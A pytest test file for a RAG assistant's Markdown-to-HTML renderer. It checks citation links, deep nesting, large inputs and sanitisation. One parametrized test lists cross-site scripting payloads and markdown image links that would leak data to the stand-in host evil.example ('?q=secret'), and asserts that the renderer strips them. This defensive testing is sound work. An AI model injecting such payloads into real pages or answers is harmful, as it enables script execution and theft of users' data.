"""Answers as HTML: what Markdown can say is drawn, what could run or call out is not."""

import re
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag_assistant.web.markdown import render
from rag_assistant.web.markdown.render import plain_text, render_markdown


def test_tables_code_and_emphasis_are_drawn() -> None:
    html = render_markdown("**b** `c`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```\n<i>\n```")
    assert "<strong>b</strong>" in html
    assert "<td>2</td>" in html
    assert "&lt;i&gt;" in html


def test_known_citations_become_links_and_others_stay_text() -> None:
    html = render_markdown("See [1] and [7]. `[1]`", [1, 2], "source-4")
    assert '<a href="#source-4-1" rel="noopener noreferrer nofollow">[1]</a>' in html
    assert "[7]" in html
    assert html.count("<a ") == 1


def test_each_number_of_a_citation_is_a_link_of_its_own() -> None:
    html = render_markdown("See [1, 2], \u30101\u2020a.md\u3011 and [Source 2, 7]. In [0, 100], [5-9].", [1, 2], "s")
    links = re.sub(r'<a href="#s-(\d)"[^>]*>\[(\d)\]</a>', r"{\1=\2}", html)
    assert "See {1=1}{2=2}, {1=1} and {2=2}[7]. In [0, 100], [5-9]." in links


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "![x][1]\n\n[1]: https://evil.example/a.png",
        "<svg onload=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&#58;alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "<iframe src=https://evil.example>",
        "<style>@import 'https://evil.example'</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<a href=x style=background:url(//evil.example)>x</a>",
        "<video poster=//evil.example>",
        "<base href=//evil.example>",
        '<p id="x" class="y" onclick="z">x</p>',
    ],
)
def test_nothing_runs_and_nothing_is_fetched(payload: str) -> None:
    for text in (payload, f"> {payload}", f"- {payload}", f"| {payload} |\n|---|\n| {payload} |"):
        html = render_markdown(text).replace('<div class="wide" tabindex="0">', "").replace("</div>", "")
        tags = re.findall(r"<\s*/?\s*([a-zA-Z0-9]+)", html)
        assert set(tags) <= {"p", "a", "blockquote", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "em"}
        attributes = re.findall(r"<[a-z][a-z0-9]*\s([^>]*)>", html)
        assert not [a for a in attributes if re.search(r"\b(src|style|on\w+|id|class|poster)\s*=", a)]
        assert not re.search(r'href="\s*(?!https?:|mailto:|#)[a-z]+:', html, re.IGNORECASE)


def test_a_link_has_an_address_and_no_words_that_show_up_under_the_mouse() -> None:
    assert "title" not in render_markdown('[the guide](https://example.org "Your bank")')


@given(st.text())
def test_any_text_becomes_html_without_foreign_tags(text: str) -> None:
    assert not re.search(
        r"<(script|img|svg|iframe|style|link|object|embed|form|input|base|meta)\b", render_markdown(text)
    )


@pytest.mark.parametrize("mark", ["- ", "> ", "1. ", "> - ", "- 1. > "])
@pytest.mark.parametrize("deep", [1, 9, 10, 11, 30, 400])
def test_what_is_nested_deeply_and_what_stands_behind_it_is_never_lost(mark: str, deep: int) -> None:
    drawn = render_markdown(f"Before\n\n{mark * deep}inner **words**\n\n{mark * (deep + 5)}deeper\n\nBehind\n")
    words = re.sub(r"<[^>]*>", "", drawn).split()
    assert [word for word in words if word.isalpha()] == ["Before", "inner", "words", "deeper", "Behind"]
    assert drawn.endswith("<p>Behind</p>\n")


def test_a_list_that_is_indented_ever_deeper_keeps_each_of_its_items() -> None:
    drawn = render_markdown("\n".join(f"{'  ' * deep}- item{deep}" for deep in range(40)))
    assert re.findall(r"item(\d+)", drawn) == [str(deep) for deep in range(40)]


PIECES = [*"ab1 \n\\$`~*_[]<>!&:#-+={}%@^()\"'.|", "\n\n", "  \n", "**", "~~", "[1]", "[a](b)", "<a@b.c>", "- ", "\\("]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join))
def test_running_text_ends_where_the_parser_itself_would_let_it(text: str) -> None:
    ours = render_markdown(text, [1], "source-1")
    with mock.patch.object(render._parser.inline, "terminator_re", MarkdownIt().inline.terminator_re):
        assert render_markdown(text, [1], "source-1") == ours


@given(st.lists(st.sampled_from(["- ", "> ", "1. ", "  ", "    ", "\n", "\n\n", "word "]), max_size=80))
def test_no_word_is_lost_between_lists_and_quotes(parts: list[str]) -> None:
    assert render_markdown("".join(parts)).count("word") == parts.count("word ")


@pytest.mark.parametrize(
    "text",
    [
        "> - " * 40_000,
        ("> - " * 40 + "x\n\n") * 1_000,
        "[" * 100_000,
        ">" * 50_000,
        "*a " * 30_000,
        "`" * 50_000,
        "x" * 1_000_000,
    ],
)
@pytest.mark.timeout(120)  # It takes a moment, or for ever.
def test_odd_markdown_is_drawn_to_its_end(text: str) -> None:
    render_markdown(text)


@pytest.mark.parametrize(
    ("line", "said"),
    [
        (
            "- **Pay** 40 EUR by `pay.py`, see [the *list*](https://a.example) [1].",
            "Pay 40 EUR by pay.py, see the list [1].",
        ),
        ("## Rules for 2 * 3 <b>", "Rules for 2 * 3 <b>"),
        ("2024. It rained.", "2024. It rained."),
    ],
)
def test_a_line_is_said_without_its_marks(line: str, said: str) -> None:
    assert plain_text(line) == said


@pytest.mark.long
def test_a_table_is_completed_up_to_as_many_cells_as_a_text_can_mark() -> None:
    wide = f"|{'a|' * 180}\n|{'-|' * 180}\n" + "b\n" * 300
    html = render_markdown(f"{wide}\n" * 2)
    assert html.count("<td>") + html.count("<th>") <= render.MAX_MARKS
    assert html.count("b") >= 2 * 300
    row = f"|{'a|' * 10}\n"
    assert render_markdown(f"{row}|{'-|' * 10}\n{row * 1500}").count("<td>") == 15_000
